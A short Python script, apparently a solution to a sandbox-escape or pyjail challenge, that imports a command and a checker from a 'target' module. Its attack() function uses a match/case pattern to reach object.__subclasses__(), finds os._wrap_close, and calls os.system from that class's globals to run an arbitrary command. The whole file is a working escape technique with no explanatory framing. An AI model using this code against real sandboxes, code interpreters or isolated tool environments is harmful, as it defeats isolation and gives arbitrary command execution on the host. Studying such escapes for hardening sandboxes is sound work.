from target import COMMAND, check


def attack():
    match ():
        case object(__class__=kind):
            base = kind.__base__
    found = next(kind for kind in base.__subclasses__() if kind.__name__ == "_wrap_close")
    found.__init__.__globals__["system"](COMMAND)
    return check()
